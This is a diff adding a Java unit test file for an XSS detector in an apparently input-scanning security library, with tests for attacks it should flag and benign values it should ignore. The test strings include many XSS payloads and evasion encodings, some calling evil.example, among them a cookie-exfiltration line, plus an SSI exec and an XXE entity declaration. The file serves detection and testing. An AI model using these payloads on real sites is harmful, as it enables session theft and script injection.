@@ -1,0 +1,480 @@
+package dev.bulwark.core.internal.xss;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.bulwark.core.Component;
+import dev.bulwark.core.Level;
+import dev.bulwark.core.Source;
+import dev.bulwark.core.internal.rules.RuleDefinition;
+import dev.bulwark.core.internal.rules.ScanTarget;
+import java.util.ArrayList;
+import java.util.List;
+import org.junit.jupiter.api.Nested;
+import org.junit.jupiter.api.Test;
+
+class XssDetectorTest {
+
+    private final XssDetector detector = new XssDetector();
+
+    private List<String> rules(ScanTarget target, Level level) {
+        List<String> ids = new ArrayList<>();
+        detector.scan(target, (rule, offset, length) -> {
+            assertThat(offset).isBetween(0, Math.max(0, target.text().length() - 1));
+            assertThat(length).isPositive();
+            if (level.enables(rule.level())) {
+                ids.add(rule.id());
+            }
+        });
+        return ids;
+    }
+
+    private List<String> standard(String value) {
+        return rules(ScanTarget.queryValue(value), Level.STANDARD);
+    }
+
+    private List<String> basic(String value) {
+        return rules(ScanTarget.queryValue(value), Level.BASIC);
+    }
+
+    private List<String> strict(String value) {
+        return rules(ScanTarget.queryValue(value), Level.STRICT);
+    }
+
+    @Test
+    void declaresItsKeyAndRules() {
+        assertThat(detector.key()).isEqualTo("XSS");
+        assertThat(detector.rules()).extracting(RuleDefinition::key).containsOnly("XSS");
+        assertThat(detector.rules()).extracting(RuleDefinition::id).doesNotHaveDuplicates();
+        assertThat(detector.rules()).allSatisfy(rule -> assertThat(rule.reference()).startsWith("https://"));
+    }
+
+    @Nested
+    class Tags {
+
+        @Test
+        void detectsScriptTagAtBasic() {
+            assertThat(basic("<script>alert(1)</script>")).contains("XSS-SCRIPT-TAG");
+        }
+
+        @Test
+        void detectsUnclosedMixedCaseScriptTagAtEnd() {
+            assertThat(basic("x<ScRiPt")).contains("XSS-SCRIPT-TAG");
+        }
+
+        @Test
+        void detectsNamespacedScriptTag() {
+            assertThat(basic("<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">")).contains("XSS-SCRIPT-TAG");
+        }
+
+        @Test
+        void detectsScriptTagSplitBySpaces() {
+            assertThat(standard("<s c r i p t>")).contains("XSS-SCRIPT-TAG");
+        }
+
+        @Test
+        void detectsScriptTagWithNulInsideItsName() {
+            assertThat(standard("<scr\\0ipt src=//evil.example/x.js>")).contains("XSS-SCRIPT-TAG");
+        }
+
+        @Test
+        void detectsEntityEncodedScriptTag() {
+            assertThat(standard("&lt;script&gt;alert(1)&lt;/script&gt")).contains("XSS-SCRIPT-TAG");
+        }
+
+        @Test
+        void detectsFullWidthScriptTag() {
+            assertThat(standard("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e")).contains("XSS-SCRIPT-TAG");
+        }
+
+        @Test
+        void detectsUtf7ScriptTag() {
+            assertThat(standard("+ADw-script+AD4-alert(1)+ADw-/script+AD4-")).contains("XSS-SCRIPT-TAG");
+        }
+
+        @Test
+        void detectsSvgWithSlashSeparatedHandler() {
+            assertThat(basic("<svg/onload=alert(1)>")).contains("XSS-EVENT-HANDLER");
+            assertThat(standard("<svg/onload=alert(1)>")).contains("XSS-DANGEROUS-TAG");
+        }
+
+        @Test
+        void detectsImageErrorHandler() {
+            assertThat(basic("<img src=x onerror=alert(1)>")).contains("XSS-EVENT-HANDLER");
+        }
+
+        @Test
+        void detectsHandlerWithUnknownName() {
+            assertThat(basic("<xss onbeforehellfreezes=prompt(1)>")).contains("XSS-EVENT-HANDLER");
+        }
+
+        @Test
+        void detectsHandlerSeparatedByControlCharacters() {
+            assertThat(basic("<img\fsrc=x\ronerror\t=alert(1)>")).contains("XSS-EVENT-HANDLER");
+        }
+
+        @Test
+        void detectsHandlerInTagHiddenInAttributeValue() {
+            assertThat(basic("<img alt=\"<img src=x onerror=alert(1)>\">")).contains("XSS-EVENT-HANDLER");
+        }
+
+        @Test
+        void detectsHandlerAfterQuotedGreaterThan() {
+            assertThat(basic("<a title='>' onclick=alert(1)>x</a>")).isNotEmpty();
+        }
+
+        @Test
+        void detectsDangerousElements() {
+            for (String tag : List.of("<iframe src=//evil.example>", "<object data=x.swf>", "<embed src=x>",
+                    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0>", "<link rel=import>",
+                    "<style>@import 'x'</style>", "<form action=//evil.example>", "<math><mi>",
+                    "<applet code=x.class>")) {
+                assertThat(standard(tag)).as(tag).contains("XSS-DANGEROUS-TAG");
+            }
+        }
+
+        @Test
+        void detectsDangerousElementSpelledWithSpaces() {
+            assertThat(standard("$<f o r m")).contains("XSS-DANGEROUS-TAG");
+        }
+
+        @Test
+        void detectsSrcdocAndFormaction() {
+            assertThat(standard("<button formaction=//evil.example>")).contains("XSS-DANGEROUS-ATTRIBUTE");
+            assertThat(standard("<p srcdoc=\"x\">")).contains("XSS-DANGEROUS-ATTRIBUTE");
+        }
+
+        @Test
+        void detectsStyleAttributeInInjectedMarkup() {
+            assertThat(standard("\"><div style=\"position:fixed;top:0\">")).contains("XSS-DANGEROUS-ATTRIBUTE");
+        }
+
+        @Test
+        void detectsDisguisedLinkToAnotherHost() {
+            assertThat(standard("<a href=\"//evil.example\">login</a>")).contains("XSS-DANGEROUS-ATTRIBUTE");
+            assertThat(standard("<a href=\"http:/\t/evil.example\">login</a>")).contains("XSS-DANGEROUS-ATTRIBUTE");
+        }
+
+        @Test
+        void detectsClosingScriptTagThatBreaksOutOfScript() {
+            assertThat(standard("</script><svg onload=alert(1)>")).contains("XSS-CONTEXT-BREAKOUT");
+        }
+
+        @Test
+        void detectsCommentCloseAtStartOfValue() {
+            assertThat(standard("-->")).contains("XSS-CONTEXT-BREAKOUT");
+        }
+
+        @Test
+        void detectsEntityDeclaration() {
+            assertThat(standard("<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil.example/x\">%x;]>"))
+                    .contains("XSS-MARKUP-DECLARATION");
+        }
+
+        @Test
+        void detectsServerSideInclude() {
+            assertThat(standard("<!--#exec cmd=\"id\"-->")).contains("XSS-MARKUP-DECLARATION");
+        }
+
+        @Test
+        void detectsImportProcessingInstruction() {
+            assertThat(standard("<?import implementation=\"x.htc\">")).contains("XSS-MARKUP-DECLARATION");
+        }
+
+        @Test
+        void detectsTagWithAttributesInParameterName() {
+            ScanTarget name = new ScanTarget("x=<a href=\"test\"", Source.FORM, Component.NAME, "x=<a href=\"test\"");
+            assertThat(rules(name, Level.STANDARD)).contains("XSS-MARKUP-IN-NAME");
+        }
+
+        @Test
+        void reportsPlainTagWithAttributesOnlyAtStrict() {
+            assertThat(standard("<b class=\"x\">bold</b>")).isEmpty();
+            assertThat(strict("<b class=\"x\">bold</b>")).contains("XSS-HTML-TAG");
+        }
+    }
+
+    @Nested
+    class Urls {
+
+        @Test
+        void detectsJavascriptUrlWithCallAtBasic() {
+            assertThat(basic("javascript:alert(1)")).contains("XSS-SCRIPT-URL-CALL");
+        }
+
+        @Test
+        void detectsJavascriptUrlInAttribute() {
+            assertThat(basic("<a href=\"javascript:alert(document.domain)\">x</a>")).contains("XSS-SCRIPT-URL-CALL");
+        }
+
+        @Test
+        void detectsSchemeSplitByEntityEncodedTab() {
+            assertThat(standard("ja&tab;vascript:")).contains("XSS-SCRIPT-URL");
+        }
+
+        @Test
+        void detectsSchemeEncodedAsDecimalReferencesWithoutSemicolons() {
+            assertThat(basic("<img src=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)>"))
+                    .contains("XSS-SCRIPT-URL-CALL");
+        }
+
+        @Test
+        void detectsSchemeWithLeadingControlCharacter() {
+            assertThat(basic("<a href=\"\u0001javascript:alert(1)\">")).contains("XSS-SCRIPT-URL-CALL");
+        }
+
+        @Test
+        void detectsHexEncodedScheme() {
+            assertThat(basic("&#x6A;avascript&#x3A;alert(1)")).contains("XSS-SCRIPT-URL-CALL");
+        }
+
+        @Test
+        void detectsVbscriptUrl() {
+            assertThat(standard("<a href=\"vbscript:MsgBox+1\">")).contains("XSS-SCRIPT-URL");
+        }
+
+        @Test
+        void detectsHtmlDataUrl() {
+            assertThat(standard("data:text/html,<script>alert(1)</script>")).contains("XSS-SCRIPT-URL");
+        }
+
+        @Test
+        void detectsBase64MarkupInDataUrlOfAnyType() {
+            assertThat(standard("<a href=\"data:application/x-x509-user-cert;base64,PHNjcmlwdD4=\">"))
+                    .contains("XSS-SCRIPT-URL");
+        }
+
+        @Test
+        void detectsDataUrlWithoutTypeHoldingMarkup() {
+            assertThat(standard(" data: , <x>")).contains("XSS-SCRIPT-URL");
+        }
+
+        @Test
+        void ignoresNoOpJavascriptLinks() {
+            assertThat(standard("javascript:;")).isEmpty();
+            assertThat(standard("javascript:void(0)")).isEmpty();
+            assertThat(standard("{\"destination\":\"javascript:;\",\"id\":\"\"}")).isEmpty();
+        }
+
+        @Test
+        void ignoresBookTitleThatStartsWithJavascript() {
+            assertThat(standard("JavaScript: The Good Parts (2008)")).isEmpty();
+        }
+
+        @Test
+        void ignoresImageDataUrl() {
+            assertThat(standard("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYAAAAAMAAWgmWQ0AAAAASUVORK5CYII="))
+                    .isEmpty();
+        }
+    }
+
+    @Nested
+    class Breakouts {
+
+        @Test
+        void detectsHandlerAfterDoubleQuote() {
+            assertThat(standard("\" onmouseover=alert(1) x=\"")).contains("XSS-ATTRIBUTE-BREAKOUT");
+        }
+
+        @Test
+        void detectsAutofocusHandlerAfterSingleQuote() {
+            assertThat(standard("' autofocus onfocus=alert(1) '")).contains("XSS-ATTRIBUTE-BREAKOUT");
+        }
+
+        @Test
+        void detectsHandlerInUserAgentComment() {
+            assertThat(standard("Test/1.0 (compatible; onload=alert(document.domain))")).contains("XSS-ATTRIBUTE-BREAKOUT");
+        }
+
+        @Test
+        void detectsFormactionAfterQuote() {
+            assertThat(standard("'formaction=//evil.example")).contains("XSS-ATTRIBUTE-BREAKOUT");
+        }
+
+        @Test
+        void detectsStringBreakoutWithCall() {
+            assertThat(standard("';alert(1)//")).contains("XSS-JS-CALL");
+            assertThat(standard("\"-alert(1)-\"")).contains("XSS-JS-CALL");
+        }
+
+        @Test
+        void detectsStringBreakoutAssigningThroughIn() {
+            assertThat(standard("\"in \\u0076alueOf=")).contains("XSS-JS-OBFUSCATION");
+        }
+
+        @Test
+        void ignoresHandlerNameAsQueryParameterInUrl() {
+            assertThat(standard("https://example.com/collect?onload=googleLoginRender")).isEmpty();
+        }
+
+        @Test
+        void ignoresHandlerNameInsideTokens() {
+            assertThat(standard("t=1614308115,v1=5257a869e7ecebeda32affa62cdca3fa51onabcd=6yJV")).isEmpty();
+        }
+    }
+
+    @Nested
+    class Script {
+
+        @Test
+        void detectsProofOfInjectionCalls() {
+            for (String call : List.of("alert(1)", "prompt()", "confirm(document.cookie)", "eval('2 + 2')",
+                    "setTimeout(name, 1)", "new Function()", "atob('YQ==')")) {
+                assertThat(standard(call)).as(call).contains("XSS-JS-CALL");
+            }
+        }
+
+        @Test
+        void detectsCallWithCommentsBeforeParenthesis() {
+            assertThat(standard("alert/**/(1)")).contains("XSS-JS-CALL");
+        }
+
+        @Test
+        void detectsTaggedTemplateCall() {
+            assertThat(standard("alert`1`")).contains("XSS-JS-CALL");
+            assertThat(standard("[].sort.call`${alert}1337`")).contains("XSS-JS-CALL");
+        }
+
+        @Test
+        void detectsEscapedFunctionName() {
+            assertThat(standard("\\u0061lert(1)")).contains("XSS-JS-CALL");
+        }
+
+        @Test
+        void detectsModuleImport() {
+            assertThat(standard("import { a } from \"./a.js\";")).contains("XSS-JS-CALL");
+        }
+
+        @Test
+        void detectsDomSinks() {
+            for (String sink : List.of("document.cookie", "window.location", "document /*x*/ . cookie",
+                    "window[\"alert\"](1)", "(document)[\"cookie\"]", "self[\"$\"]", "x.innerHTML='<b>'",
+                    "location.href='//evil.example'")) {
+                assertThat(standard(sink)).as(sink).contains("XSS-DOM-SINK");
+            }
+        }
+
+        @Test
+        void detectsHandlerAssignedOnGlobal() {
+            assertThat(standard("window.onerror=alert;throw 1")).contains("XSS-DOM-SINK");
+        }
+
+        @Test
+        void detectsCookieExfiltrationThroughLocation() {
+            assertThat(standard("document.location='//evil.example/?c='+document.cookie")).contains("XSS-DOM-SINK");
+        }
+
+        @Test
+        void ignoresQuestionAboutDomMethod() {
+            assertThat(standard("What does document.getElementById return?")).isEmpty();
+        }
+
+        @Test
+        void ignoresAlternativesInParentheses() {
+            assertThat(standard("Please confirm(yes/no)")).isEmpty();
+        }
+
+        @Test
+        void detectsConstructorChain() {
+            assertThat(standard("[].constructor.constructor('alert(1)')()")).contains("XSS-JS-OBFUSCATION");
+        }
+
+        @Test
+        void detectsJsFuck() {
+            assertThat(standard("(![]+[])[+!+[]]")).contains("XSS-JS-OBFUSCATION");
+        }
+
+        @Test
+        void detectsTemplateExpressionEscape() {
+            assertThat(standard("{{constructor.constructor('alert(1)')()}}")).contains("XSS-TEMPLATE-EXPRESSION");
+            assertThat(standard("{{$on.constructor('alert(1)')()}}")).contains("XSS-TEMPLATE-EXPRESSION");
+        }
+
+        @Test
+        void detectsCssExpression() {
+            assertThat(standard("<div style=\"width:expr/**/ession(alert(1))\">")).contains("XSS-CSS");
+            assertThat(standard("x:url(javascript")).contains("XSS-CSS");
+            assertThat(standard("-moz-binding:url(http://evil.example/x.xml#x)")).contains("XSS-CSS");
+        }
+
+        @Test
+        void ignoresPlainTemplateExpression() {
+            assertThat(standard("Hello {{ user.name }}")).isEmpty();
+        }
+
+        @Test
+        void ignoresPythonAndDocumentStoreKeys() {
+            assertThat(standard("self['name'] = value")).isEmpty();
+            assertThat(standard("document['title']")).isEmpty();
+        }
+
+        @Test
+        void ignoresMarkdownImage() {
+            assertThat(standard("![](https://example.com/cat.png)")).isEmpty();
+        }
+
+        @Test
+        void ignoresCallsInProse() {
+            assertThat(standard("please confirm (yes or no)")).isEmpty();
+            assertThat(standard("price alert (daily)")).isEmpty();
+            assertThat(standard("set up alert(s) for this search")).isEmpty();
+            assertThat(standard("1alert(1)")).isEmpty();
+        }
+
+        @Test
+        void ignoresImportInProse() {
+            assertThat(standard("if you're willing to import (and perhaps wait around)")).isEmpty();
+        }
+
+        @Test
+        void ignoresCodeSnippetInProse() {
+            assertThat(standard("use `items.map(x => x * 2)` and then call render(list) again")).isEmpty();
+        }
+    }
+
+    @Nested
+    class Documents {
+
+        @Test
+        void allowsSvgAndNamespacesInXmlDocument() {
+            assertThat(standard("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"></svg>")).isEmpty();
+        }
+
+        @Test
+        void stillDetectsScriptInXmlDocument() {
+            assertThat(basic("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"))
+                    .contains("XSS-EVENT-HANDLER");
+        }
+    }
+
+    @Nested
+    class Traps {
+
+        @Test
+        void ignoresEverydayValues() {
+            for (String value : List.of("O'Brien", "select your size", "1 or 2 items", "drop-down",
+                    "a=b&c=d", "<3", "I <3 <3 the doctor", "a < b > c", "1<2", "<john@example.com>",
+                    "John Doe <john@example.com>", "vector<int>", "std::map<std::string, int> m;",
+                    "**bold** and _italic_ [link](https://example.com/a?b=c&d=e)", "$5 + tax",
+                    "2024-01-31", "+1 (555) 123-4567", "report_final(2).pdf", "550e8400-e29b-41d4-a716-446655440000",
+                    "https://shop.example.com/products?version=premium&option=deluxe",
+                    "javascript is fun", "I learned JavaScript: it was fun.", "the onload event fires late",
+                    "{\"name\":\"x\",\"tags\":[\"a\",\"b\"],\"onload\":true}", "Q29udGVudCBvZiBhIGZpbGU=",
+                    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk",
+                    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+                    "Settings --> Privacy", "if (a < b) { return a; }", "online=1&theme=dark",
+                    "BLAH <A HREF=\"/PATH1/PATH2\">FOO</A>", "<span class=\"show-text\">regardez</span>",
+                    "pr_shop\">MamaBearBabyWear</a>", "document.pdf", "top.example.com",
+                    "Learn JavaScript: A Beginner's Guide (2nd Edition)", "javascript developer jobs in london",
+                    "How do I use the onload event in React?", "List<Map<String, Object>> rows = new ArrayList<>();",
+                    "<b>Bold</b> and <i>italic</i> text", "<p>Hello <br/> world</p>", "=SUM(A1:A10)",
+                    "C:\\Program Files\\App\\bin\\app.exe", "The eval (evaluation) period ends soon",
+                    "window cleaning service near me", "location: Berlin, Germany", "mailto:john@example.com",
+                    "data: 5 rows updated", ":) :( :-> <-- arrow", "usage: convert <input> <output>",
+                    "set <base> to your server's <link> prefix",
+                    "Error: Cannot read properties of undefined (reading 'map') at Object.<anonymous> (/app/index.js:10:5)")) {
+                assertThat(standard(value)).as(value).isEmpty();
+            }
+        }
+    }
+}
